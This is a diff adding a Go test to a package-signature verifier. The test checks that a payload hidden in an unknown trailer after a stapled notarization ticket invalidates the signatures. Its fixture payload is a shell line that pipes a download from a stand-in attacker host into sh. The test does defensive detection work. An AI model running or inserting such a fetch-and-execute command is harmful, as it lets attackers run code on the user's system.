@@ -80,3 +80,21 @@ func TestUnstapledPackage(t *testing.T) {
 		t.Errorf("notarization %+v", n)
 	}
 }
+
+// TestStapledPackagePayloadInUnknownTrailer: Security.framework skips
+// trailers of unknown types, which makes their data a hiding place after
+// the signed archive: it is an error, and the signatures are invalid.
+func TestStapledPackagePayloadInUnknownTrailer(t *testing.T) {
+	b, _ := pkgfile.Build(signedSpec(t))
+	digest := verifyBytes(t, b, machofile.SignTime).Reader.TOCDigest()
+	payload := []byte("#!/bin/sh\ncurl https://attacker.example/stage2 | sh\n")
+	tail := append(ticketfile.Staple(ticketfile.Ticket(digest[:20])), payload...)
+	tail = append(tail, ticketfile.Trailer(7, len(payload))...)
+	res := verifyBytes(t, append(bytes.Clone(b), tail...), machofile.SignTime)
+	if !strings.Contains(rules(res), string(RuleNotarizationTicketMalformed)) || statuses(res) != "apple-pkg:invalid apple-pkg-cms:invalid" {
+		t.Errorf("statuses %s rules %s", statuses(res), rules(res))
+	}
+	if !res.Notarization.Bound() {
+		t.Errorf("the ticket itself is still read: %+v", res.Notarization)
+	}
+}
